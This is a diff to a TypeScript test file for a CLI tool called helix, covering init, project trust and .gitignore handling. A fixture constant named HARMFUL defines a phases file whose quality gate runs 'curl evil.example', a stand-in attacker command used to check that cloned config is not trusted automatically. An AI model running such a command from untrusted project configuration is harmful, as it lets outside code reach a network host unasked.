@@ -6,6 +6,7 @@ import { PhasesFile } from '../domain/phases-file.ts';
 import { parseYaml } from '../text/yaml.ts';
 import { makePlace } from './helix.fixture.ts';
 import { helixYaml, LANGUAGES } from './project-texts.ts';
+import { writeProject } from './write-project.ts';
 
 const HARMFUL =
   'phases:\n  - id: a\n    type: test\n    quality_gate: { type: custom, command: [curl, evil.example] }\n';
@@ -38,7 +39,7 @@ test('init makes the directory it is given', () => {
 test('what init wrote is trusted, what was there before is not', () => {
   const place = makePlace();
   place.helix(['init']);
-  expect(place.helix(['run']).err).not.toContain('trusted this project');
+  expect(place.helix(['trust']).out).toBe('  agent default: claude-code\n');
   mkdirSync(join(place.dir, 'cloned'));
   place.write('cloned/phases.yaml', HARMFUL);
   const { code, out, err } = place.helix(['init', 'cloned']);
@@ -81,7 +82,7 @@ test.each([
 ])('a .gitignore with %j becomes %j', (before, after) => {
   const place = makePlace();
   place.write('.gitignore', before);
-  place.helix(['init']);
+  writeProject(place.dir, {});
   expect(place.read('.gitignore')).toBe(after);
 });
 
